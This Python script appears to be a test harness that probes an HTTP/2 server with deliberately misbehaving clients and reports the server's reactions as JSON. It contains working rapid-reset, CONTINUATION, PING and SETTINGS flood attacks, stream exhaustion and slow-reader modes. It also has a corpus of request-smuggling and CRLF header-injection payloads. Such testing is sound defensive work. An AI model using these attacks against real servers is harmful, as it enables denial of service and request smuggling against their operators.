#!/usr/bin/python3
"""HTTP/2 clients that misbehave on purpose, for e2e/tests/h2.rs.

Frames are built by hand with hyperframe and header blocks with hpack (Debian python3-h2), so
that what no well-behaved library would send can be sent: malformed requests (the h2->h1
downgrade corpus) and floods. Each mode prints one JSON object on stdout with what the
server did; the Rust test asserts on it.

Usage: h2_attacks.py HOST PORT MODE
"""

import json
import os
import select
import socket
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Closed(Exception):
    pass


class Conn:
    """One client connection speaking raw frames."""

    def __init__(self, addr, settings=None):
        self.sock = socket.create_connection(addr, timeout=10)
        self.enc = Encoder()
        self.dec = Decoder()
        self.buf = b""
        self.goaway = None
        self.sock.sendall(PREFACE + SettingsFrame(0, settings or {}).serialize())

    def send(self, *frames):
        self.sock.sendall(b"".join(f.serialize() for f in frames))

    def block(self, headers):
        # hpack lower-cases nothing and checks nothing: what is given is what is sent.
        return self.enc.encode(headers)

    def request(self, sid, headers, end_stream=True, body=None):
        flags = ["END_HEADERS"]
        if end_stream and body is None:
            flags.append("END_STREAM")
        frames = [HeadersFrame(sid, self.block(headers), flags=flags)]
        if body is not None:
            frames.append(DataFrame(sid, body, flags=["END_STREAM"] if end_stream else []))
        self.send(*frames)

    def _recv(self, n, deadline):
        while len(self.buf) < n:
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError()
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(65536)
            except ConnectionResetError:
                raise Closed()
            if not chunk:
                raise Closed()
            self.buf += chunk
        out, self.buf = self.buf[:n], self.buf[n:]
        return out

    def frame(self, timeout=10):
        """The next frame (SETTINGS acked, header blocks decoded), or raises."""
        deadline = time.monotonic() + timeout
        head = self._recv(9, deadline)
        frame, length = Frame.parse_frame_header(memoryview(head))
        frame.parse_body(memoryview(self._recv(length, deadline)))
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send(SettingsFrame(0, flags=["ACK"]))
        if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]))
        if isinstance(frame, (HeadersFrame, ContinuationFrame)):
            frame.decoded = self.dec.decode(frame.data) if "END_HEADERS" in frame.flags else []
        if isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        return frame

    def outcome(self, sid, timeout=10):
        """What became of stream `sid`: its status, 'rst:CODE', 'goaway:CODE' or 'closed'."""
        deadline = time.monotonic() + timeout
        try:
            while True:
                f = self.frame(max(0.01, deadline - time.monotonic()))
                if isinstance(f, GoAwayFrame):
                    return "goaway:%d" % f.error_code
                if f.stream_id != sid:
                    continue
                if isinstance(f, RstStreamFrame):
                    return "rst:%d" % f.error_code
                if isinstance(f, HeadersFrame):
                    status = str(dict(f.decoded).get(":status", "?"))
                    if not status.startswith("1"):
                        return status
        except Closed:
            return "closed"
        except TimeoutError:
            return "timeout"

    def closed_within(self, seconds):
        """Reads until the server closes (True) or `seconds` pass (False); notes GOAWAY."""
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline:
                self.frame(max(0.01, deadline - time.monotonic()))
        except TimeoutError:  # an OSError too: first
            return False
        except (Closed, OSError):
            return True
        return False


def base(path="/ok", method="GET", authority="app"):
    return [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]


def corpus():
    """(name, header list, body or None): requests no HTTP/1.1 origin may see."""
    p = "/corpus"
    return [
        ("transfer-encoding", base(p, "POST") + [("transfer-encoding", "chunked")],
         b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: app\r\n\r\n"),
        ("connection", base(p) + [("connection", "keep-alive")], None),
        ("keep-alive", base(p) + [("keep-alive", "timeout=5")], None),
        ("proxy-connection", base(p) + [("proxy-connection", "keep-alive")], None),
        ("upgrade", base(p) + [("upgrade", "websocket")], None),
        ("te-gzip", base(p) + [("te", "gzip")], None),
        ("te-trailers-gzip", base(p) + [("te", "trailers, gzip")], None),
        ("upper-case-name", base(p) + [("X-Upper", "1")], None),
        ("space-in-name", base(p) + [("x bad", "1")], None),
        ("colon-in-name", base(p) + [("x:bad", "1")], None),
        ("crlf-in-value", base(p) + [("x-a", "1\r\nx-injected: 1")], None),
        ("lf-in-value", base(p) + [("x-a", "1\nx-injected: 1")], None),
        ("cr-in-value", base(p) + [("x-a", "1\rx")], None),
        ("nul-in-value", base(p) + [("x-a", "1\x00x")], None),
        ("crlf-host-injection", base(p) + [("host", "app\r\nx-injected: 1")], None),
        ("leading-space-value", base(p) + [("x-a", " 1")], None),
        ("trailing-tab-value", base(p) + [("x-a", "1\t")], None),
        ("content-length-longer-data", base(p, "POST") + [("content-length", "5")],
         b"helloGET /smuggled HTTP/1.1\r\nHost: app\r\n\r\n"),
        ("content-length-shorter-data", base(p, "POST") + [("content-length", "64")], b"hello"),
        ("content-length-differs", base(p, "POST") + [("content-length", "5"),
                                                      ("content-length", "6")], b"hello"),
        ("content-length-list", base(p, "POST") + [("content-length", "5, 5")], b"hello"),
        ("content-length-sign", base(p, "POST") + [("content-length", "+5")], b"hello"),
        ("authority-host-differ", base(p) + [("host", "evil.test")], None),
        ("two-hosts", [(":method", "GET"), (":scheme", "http"), (":path", p),
                       ("host", "app"), ("host", "evil.test")], None),
        ("absolute-path", base("http://evil.test/x"), None),
        ("asterisk-path-get", base("*"), None),
        ("path-without-slash", base("corpus"), None),
        ("crlf-in-path", base("/corpus\r\nx-injected: 1"), None),
        ("space-in-path", base("/corpus HTTP/1.1\r\nHost: evil"), None),
        ("userinfo-authority", base(p, authority="user@app"), None),
        ("crlf-in-authority", base(p, authority="app\r\nx-injected: 1"), None),
        ("space-in-method", base(p, method="GET /smuggled"), None),
        ("missing-path", [(":method", "GET"), (":scheme", "http"), (":authority", "app")], None),
        ("missing-method", [(":scheme", "http"), (":authority", "app"), (":path", p)], None),
        ("missing-scheme", [(":method", "GET"), (":authority", "app"), (":path", p)], None),
        ("duplicate-path", base(p) + [(":path", "/smuggled")], None),
        ("pseudo-after-regular", [(":method", "GET"), (":scheme", "http"), ("x-a", "1"),
                                  (":authority", "app"), (":path", p)], None),
        ("unknown-pseudo", base(p) + [(":foo", "bar")], None),
        ("status-in-request", base(p) + [(":status", "200")], None),
        ("connect-with-path", [(":method", "CONNECT"), (":authority", "app:80"),
                               (":path", "/corpus")], None),
    ]


def downgrade(addr):
    results = {}
    for name, headers, body in corpus():
        c = Conn(addr)
        try:
            c.request(1, headers, body=body)
        except OSError:
            results[name] = "closed"
            continue
        results[name] = c.outcome(1)
        c.sock.close()
    c = Conn(addr)
    c.request(1, base("/ok"))
    results["control"] = c.outcome(1)
    return {"results": results}


def rapid_reset(addr):
    c = Conn(addr)
    sid, sent = 1, 0
    try:
        for _ in range(50):
            frames = []
            for _ in range(100):
                frames.append(HeadersFrame(sid, c.block(base("/delay/200")), flags=["END_HEADERS", "END_STREAM"]))
                frames.append(RstStreamFrame(sid, error_code=8))
                sid += 2
            c.send(*frames)
            sent += 100
    except OSError:
        pass
    closed = c.closed_within(10)
    return {"sent": sent, "goaway": c.goaway, "closed": closed}


def continuation(addr):
    c = Conn(addr)
    first = c.block(base("/ok"))
    sent = 0
    try:
        c.send(HeadersFrame(1, first, flags=[]))
        filler = b"\x00" * 16000  # never ends the block: END_HEADERS never comes
        for _ in range(2000):
            c.send(ContinuationFrame(1, filler, flags=[]))
            sent += 1
    except OSError:
        pass
    closed = c.closed_within(10)
    return {"sent": sent, "goaway": c.goaway, "closed": closed}


def flood(addr, make, seconds):
    """Sends `make()` frames as fast as the server takes them, never reading, for `seconds`
    or until the server closes; then reads what is left. Partial writes are resumed, so
    the frames stay well formed whatever the server's reading pace."""
    c = Conn(addr)
    c.sock.setblocking(False)
    batch = b"".join(make().serialize() for _ in range(100))
    sent, pending, closed = 0, b"", False
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        if not pending:
            pending = batch
            sent += 100
        _, writable, _ = select.select([], [c.sock], [], 0.2)
        if not writable:
            continue  # the server stopped reading: its buffers are full
        try:
            pending = pending[c.sock.send(pending):]
        except BlockingIOError:
            continue
        except OSError:
            closed = True
            break
    elapsed = time.monotonic() - started
    c.sock.setblocking(True)
    if not closed:
        closed = c.closed_within(20)
    return {"sent": sent, "closed": closed, "goaway": c.goaway,
            "seconds": round(time.monotonic() - started, 1), "flood_seconds": round(elapsed, 1)}


def stream_limit(addr, hang_path):
    c = Conn(addr)
    advertised = None
    while advertised is None:
        f = c.frame()
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            advertised = f.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
    frames = [HeadersFrame(2 * i + 1, c.block(base(hang_path)), flags=["END_HEADERS", "END_STREAM"])
              for i in range(advertised + 10)]
    c.send(*frames)
    refused = set()
    deadline = time.monotonic() + 5
    try:
        while time.monotonic() < deadline and len(refused) < 10:
            f = c.frame(max(0.01, deadline - time.monotonic()))
            if isinstance(f, RstStreamFrame):
                refused.add(f.stream_id)
    except (Closed, TimeoutError):
        pass
    closed = c.closed_within(30)
    return {"advertised": advertised, "refused": len(refused),
            "first_refused": min(refused) if refused else None,
            "goaway": c.goaway, "closed": closed}


def slow_reader(addr, path):
    # SETTINGS_INITIAL_WINDOW_SIZE 0: the server may send no DATA at all.
    c = Conn(addr, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    c.request(1, base(path))
    started = time.monotonic()
    data, outcome = 0, None
    try:
        while time.monotonic() - started < 30:
            f = c.frame(30)
            if isinstance(f, DataFrame) and f.stream_id == 1:
                data += len(f.data)
            if isinstance(f, RstStreamFrame) and f.stream_id == 1:
                outcome = "rst:%d" % f.error_code
                break
            if isinstance(f, GoAwayFrame):
                outcome = "goaway"
                break
    except (Closed, TimeoutError):
        outcome = outcome or "closed"
    stream_gone = round(time.monotonic() - started, 1)
    closed = c.closed_within(30)
    return {"data": data, "outcome": outcome, "stream_seconds": stream_gone,
            "goaway": c.goaway, "closed": closed,
            "seconds": round(time.monotonic() - started, 1)}


def connect(addr, targets):
    """A well-behaved CONNECT over HTTP/2 (RFC 9113 §8.5) to an echo server: the 2xx, then
    DATA both ways; also a plain GET in absolute form through the same forward proxy."""
    target, origin = targets.split(",")
    c = Conn(addr)
    c.request(1, [(":method", "CONNECT"), (":authority", target)], end_stream=False)
    status = c.outcome(1)
    echoed = b""
    if status == "200":
        c.send(DataFrame(1, b"ping over h2"))
        deadline = time.monotonic() + 10
        try:
            while len(echoed) < 12 and time.monotonic() < deadline:
                f = c.frame(max(0.01, deadline - time.monotonic()))
                if isinstance(f, DataFrame) and f.stream_id == 1:
                    echoed += f.data
                    c.send(WindowUpdateFrame(0, len(f.data)), WindowUpdateFrame(1, len(f.data)))
        except (Closed, TimeoutError):
            pass
        c.send(DataFrame(1, b"", flags=["END_STREAM"]))
    c.request(3, base("/bytes/300", authority=origin))
    got = c.outcome(3)
    return {"status": status, "echoed": echoed.decode(errors="replace"), "get": got}


def trailers(addr):
    """A POST whose content ends with trailer fields; reports the response's status, content
    and trailer fields."""
    c = Conn(addr)
    c.send(HeadersFrame(1, c.block(base("/t", "POST")), flags=["END_HEADERS"]),
           DataFrame(1, b"hello"),
           HeadersFrame(1, c.block([("x-req-sum", "1"), ("content-length", "99")]),
                        flags=["END_HEADERS", "END_STREAM"]))
    status, body, fields, ended = None, b"", {}, False
    try:
        while not ended:
            f = c.frame(10)
            if f.stream_id != 1:
                continue
            if isinstance(f, DataFrame):
                body += f.data
                ended = "END_STREAM" in f.flags
            elif isinstance(f, HeadersFrame) and status is None:
                status = dict(f.decoded).get(":status")
                ended = "END_STREAM" in f.flags
            elif isinstance(f, HeadersFrame):
                fields = dict(f.decoded)
                ended = True
            elif isinstance(f, RstStreamFrame):
                status = "rst:%d" % f.error_code
                ended = True
    except (Closed, TimeoutError):
        pass
    return {"status": status, "body": body.decode(errors="replace"), "trailers": fields}


def big_head(addr, size):
    """One request with a `size`-byte field (split over CONTINUATION frames), then an
    ordinary one on the same connection; reports both outcomes."""
    c = Conn(addr)
    block = c.block(base("/big") + [("x-big", "a" * size)])
    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    frames = [HeadersFrame(1, chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else []))]
    frames += [ContinuationFrame(1, ch, flags=[]) for ch in chunks[1:-1]]
    if len(chunks) > 1:
        frames.append(ContinuationFrame(1, chunks[-1], flags=["END_HEADERS"]))
    c.send(*frames)
    first = c.outcome(1)
    c.request(3, base("/small"))
    return {"big": first, "small": c.outcome(3)}


def idle(addr):
    """One request, then nothing but the acknowledgements a client owes (SETTINGS, PING):
    reports the GOAWAY the idle connection gets and when it closed."""
    c = Conn(addr)
    c.request(1, base("/bytes/10"))
    status = c.outcome(1)
    started = time.monotonic()
    closed = c.closed_within(30)
    return {"status": status, "goaway": c.goaway, "closed": closed,
            "seconds": round(time.monotonic() - started, 1)}


def reset_after(addr, path):
    """A request reset by the client (RST_STREAM CANCEL) half a second after it was sent, on a
    connection then kept open and quiet for 6 s: only the reset can tell Sepia it is gone."""
    c = Conn(addr)
    c.request(1, base(path))
    time.sleep(0.5)
    c.send(RstStreamFrame(1, error_code=8))
    time.sleep(6)
    return {"reset": True}


def expect_continue(addr):
    """A POST that waits for 100 Continue (RFC 9110 §10.1.1) before sending its content;
    reports the statuses seen in order and the echoed content."""
    c = Conn(addr)
    c.request(1, base("/echo", "POST") + [("content-length", "5"), ("expect", "100-continue")],
              end_stream=False)
    statuses, body = [], b""
    try:
        while True:
            f = c.frame(10)
            if f.stream_id != 1:
                continue
            if isinstance(f, HeadersFrame):
                statuses.append(dict(f.decoded).get(":status"))
                if statuses[-1] == "100":
                    c.send(DataFrame(1, b"hello", flags=["END_STREAM"]))
            elif isinstance(f, DataFrame):
                body += f.data
                c.send(WindowUpdateFrame(0, len(f.data)))
            elif isinstance(f, RstStreamFrame):
                statuses.append("rst:%d" % f.error_code)
            if "END_STREAM" in f.flags or isinstance(f, RstStreamFrame):
                break
    except (Closed, TimeoutError):
        statuses.append("gone")
    return {"statuses": statuses, "body": body.decode(errors="replace")}


def main():
    # bench/h2_abuse.sh repeats an attack for a whole window in one process (a new Python
    # per attempt would cost the load generator's core more than the attack costs Sepia).
    repeat = float(os.environ.get("H2_ATTACK_REPEAT_SECONDS", "0"))
    end = time.monotonic() + repeat
    runs = 0
    while True:
        out = run_once()
        runs += 1
        if time.monotonic() >= end:
            break
    if repeat:
        out["runs"] = runs
    print(json.dumps(out))


def run_once():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    addr = (host, port)
    arg = sys.argv[4] if len(sys.argv) > 4 else None
    if mode == "downgrade":
        out = downgrade(addr)
    elif mode == "rapid-reset":
        out = rapid_reset(addr)
    elif mode == "continuation":
        out = continuation(addr)
    elif mode == "ping":
        out = flood(addr, lambda: PingFrame(0, opaque_data=b"12345678"), float(arg or 5))
    elif mode == "settings":
        out = flood(addr, lambda: SettingsFrame(0, {SettingsFrame.HEADER_TABLE_SIZE: 4096}),
                    float(arg or 5))
    elif mode == "stream-limit":
        out = stream_limit(addr, arg or "/hang")
    elif mode == "trailers":
        out = trailers(addr)
    elif mode == "big-head":
        out = big_head(addr, int(arg))
    elif mode == "idle":
        out = idle(addr)
    elif mode == "reset-after":
        out = reset_after(addr, arg)
    elif mode == "expect-continue":
        out = expect_continue(addr)
    elif mode == "connect":
        out = connect(addr, arg)
    elif mode == "slow-reader":
        out = slow_reader(addr, arg or "/bytes/1000000")
    else:
        raise SystemExit("unknown mode " + mode)
    return out


if __name__ == "__main__":
    main()
